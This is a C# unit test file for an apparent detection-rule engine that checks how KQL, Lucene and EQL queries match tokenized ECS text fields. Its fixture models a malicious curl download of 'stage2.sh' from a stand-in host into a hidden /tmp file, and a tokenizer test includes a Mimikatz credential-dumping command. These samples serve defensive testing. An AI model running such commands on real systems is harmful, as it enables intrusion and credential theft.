using Vigil.Contracts.Telemetry;
using Vigil.Eql.Documents;
using Vigil.Eql.Kql;
using Vigil.Rules;

namespace Vigil.Eql.UnitTests;

/// <summary>
/// ECS <c>*.text</c> multi-fields (match_only_text, the standard analyzer) in KQL and Lucene rules, with the semantics
/// Elasticsearch gives them; EQL refuses them at load as Elasticsearch's EQL does.
/// </summary>
public sealed class TextMultiFieldTests
{
    private static readonly TelemetryEvent Curl = Telemetry.Event("e", 1, "process", e =>
    {
        e.Event.Type.Add("start");
        e.Process = new Process
        {
            Name = "curl",
            Executable = "/usr/bin/curl",
            CommandLine = "/usr/bin/curl -sL https://Evil.example.com/stage2.sh -o /tmp/.x --user-agent Mozilla/5.0",
            Args = { "/usr/bin/curl", "-sL", "https://Evil.example.com/stage2.sh" },
            Parent = new Process { Name = "bash", CommandLine = "bash -c curl" },
        };
        e.File = new Vigil.Contracts.Telemetry.File { Path = "/Users/alice/Library/LaunchAgents/com.Apple.Updater.plist" };
    });

    private static bool Kql(string query) => KqlCompiler.Compile(query, QueryDialect.Kuery, TelemetrySchemas.Protobuf).Matches(Curl);

    private static bool Lucene(string query) => KqlCompiler.Compile(query, QueryDialect.Lucene, TelemetrySchemas.Protobuf).Matches(Curl);

    [Theory]
    [InlineData("process.command_line.text:curl", true)]
    [InlineData("process.command_line.text:CURL", true)]
    [InlineData("process.command_line.text:evil.example.com", true)]
    [InlineData("process.command_line.text:example", false)]
    [InlineData("process.command_line.text:sl", true)]
    [InlineData("process.command_line.text:\"-sL\"", true)]
    [InlineData("process.command_line.text:stage2.sh", true)]
    [InlineData("process.command_line.text:wget", false)]
    [InlineData("process.command_line.text:wget curl", true)]
    [InlineData("process.command_line.text:(wget or python)", false)]
    public void AnUnquotedValueMatchesWhenTheCommandLineHoldsAnyOfItsLowerCasedWords(string query, bool expected) =>
        Assert.Equal(expected, Kql(query));

    [Theory]
    [InlineData("process.command_line.text:\"usr bin curl\"", true)]
    [InlineData("process.command_line.text:\"/USR/BIN/CURL\"", true)]
    [InlineData("process.command_line.text:\"curl usr\"", false)]
    [InlineData("process.command_line.text:\"o /tmp/.x\"", true)]
    [InlineData("process.command_line.text:\"user agent mozilla\"", true)]
    [InlineData("process.command_line.text:\"user mozilla\"", false)]
    public void AQuotedValueIsAPhraseItsWordsInARow(string query, bool expected) => Assert.Equal(expected, Kql(query));

    [Theory]
    [InlineData("process.command_line.text:*stage*", true)]
    [InlineData("process.command_line.text:*STAGE*", true)]
    [InlineData("process.command_line.text:evil.*", true)]
    [InlineData("process.command_line.text:*example", false)]
    [InlineData("process.command_line.text:mozill*", true)]
    public void AWildcardIsMatchedAgainstSingleWords(string query, bool expected) => Assert.Equal(expected, Kql(query));

    [Theory]
    [InlineData("file.path.text:launchagents and file.path.text:\"com.apple.updater.plist\"", true)]
    [InlineData("process.name.text:CURL", true)]
    [InlineData("process.executable.text:\"usr bin\"", true)]
    [InlineData("process.parent.command_line.text:\"BASH -C\"", true)]
    [InlineData("process.parent.name.text:zsh", false)]
    [InlineData("user.name.text:alice", false)]
    public void EveryEcsTextMultiFieldAnalyzesItsKeywordField(string query, bool expected) => Assert.Equal(expected, Kql(query));

    [Theory]
    [InlineData("process.user.name.text", "process.user.name")]
    [InlineData("process.parent.user.name.text", "process.parent.user.name")]
    [InlineData("process.group_leader.saved_user.name.text", "process.group_leader.saved_user.name")]
    [InlineData("process.entry_leader.attested_user.name.text", "process.entry_leader.attested_user.name")]
    [InlineData("process.session_leader.executable.text", "process.session_leader.executable")]
    [InlineData("process.entry_leader.command_line.text", "process.entry_leader.command_line")]
    [InlineData("process.group_leader.name.text", "process.group_leader.name")]
    [InlineData("process.previous.executable.text", "process.previous.executable")]
    [InlineData("threat.enrichments.indicator.url.full.text", "threat.enrichments.indicator.url.full")]
    [InlineData("email.subject.text", "email.subject")]
    public void EveryPlaceEcsReusesAFieldWithATextMultiFieldCarriesItToo(string textField, string keywordField)
    {
        Assert.True(TextMultiFields.TryGetKeywordField(textField, out var keyword));
        Assert.Equal(keywordField, keyword);
    }

    [Theory]
    [InlineData("process.entry_leader.title.text")]
    [InlineData("process.user.full_name.text")]
    [InlineData("process.previous.name.text")]
    [InlineData("process.entry_leader.parent.executable.text")]
    [InlineData("process.args.text")]
    public void AReusedFieldSetKeepsNoTextMultiFieldForAFieldEcsLeavesOutOfThatReuse(string textField) =>
        Assert.False(TextMultiFields.TryGetKeywordField(textField, out _));

    [Theory]
    [InlineData("process.command_line.text:Evil.Example.com", true)]
    [InlineData("process.command_line.text:\"bin curl\"", true)]
    [InlineData("process.command_line.text:curl*", true)]
    [InlineData("+process.name.text:curl -process.command_line.text:wget", true)]
    public void LuceneQueriesAnalyzeTheSameWay(string query, bool expected) => Assert.Equal(expected, Lucene(query));

    [Fact]
    public void NotOfATextMatchHoldsForAnEventWithoutTheField()
    {
        var query = KqlCompiler.Compile("not process.command_line.text:curl", QueryDialect.Kuery, TelemetrySchemas.Protobuf);

        Assert.True(query.Matches(Telemetry.Event("f", 2, "file", _ => { })));
        Assert.False(query.Matches(Curl));
    }

    [Theory]
    [InlineData("process.command_line.text:*--install*", 1, 27, "never hold '-'")]
    [InlineData("process.command_line.text:\"--\"", 1, 27, "holds no word")]
    [InlineData("process.command_line.text >= a", 1, 1, "a range over analyzed text")]
    [InlineData("process.args.text:curl", 1, 1, "ECS gives 'process.args' no .text multi-field")]
    public void AUseOfATextFieldThatCanNeverMatchFailsAtLoadSayingWhy(string query, int line, int column, string message)
    {
        var error = Assert.Throws<EqlException>(() => KqlCompiler.Compile(query, QueryDialect.Kuery, TelemetrySchemas.Protobuf));

        Assert.Equal((line, column), (error.First.Location.Line, error.First.Location.Column));
        Assert.Contains(message, error.First.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(@"file.path.text:*\/LaunchAgents\/*", 1, 16, "'/'")]
    [InlineData("process.command_line.text:*--install*", 1, 27, "'-'")]
    public void ALuceneWildcardThatElasticsearchWouldAnalyzeIntoWordsFailsAtLoadAsUnsupportedNotAsNeverMatching(string query, int line, int column, string splitAt)
    {
        var error = Assert.Throws<EqlException>(() => KqlCompiler.Compile(query, QueryDialect.Lucene, TelemetrySchemas.Protobuf));

        Assert.Equal((line, column), (error.First.Location.Line, error.First.Location.Column));
        Assert.StartsWith("unsupported: ", error.First.Message, StringComparison.Ordinal);
        Assert.Contains($"analyze_wildcard, splitting the text between its wildcards at {splitAt}", error.First.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("never match", error.First.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void AnEqlRuleNamingATextFieldFailsAtLoadPointingToTheKeywordField()
    {
        var error = Assert.Throws<EqlException>(() => Run.Compile("process where process.command_line.text : \"*curl*\""));

        Assert.Equal((1, 15), (error.First.Location.Line, error.First.Location.Column));
        Assert.Contains("'process.command_line.text' is the analyzed text (match_only_text) multi-field of 'process.command_line'", error.First.Message, StringComparison.Ordinal);
        Assert.Contains("compare 'process.command_line' instead", error.First.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/usr/bin/curl -sL https://a.b/c.sh", new[] { "usr", "bin", "curl", "sl", "https", "a.b", "c.sh" })]
    [InlineData("don't 10.0.0.1:443 x86_64 a:b sekurlsa::logonpasswords", new[] { "don't", "10.0.0.1", "443", "x86_64", "a:b", "sekurlsa", "logonpasswords" })]
    [InlineData("C:\\Windows\\System32 v1.2 end.", new[] { "c", "windows", "system32", "v1.2", "end" })]
    [InlineData("  -- == ", new string[0])]
    public void TheStandardAnalyzerSplitsOnUnicodeWordBoundariesAndLowerCases(string text, string[] tokens) =>
        Assert.Equal(tokens, Vigil.Eql.Evaluation.StandardAnalyzer.Tokens(text));
}
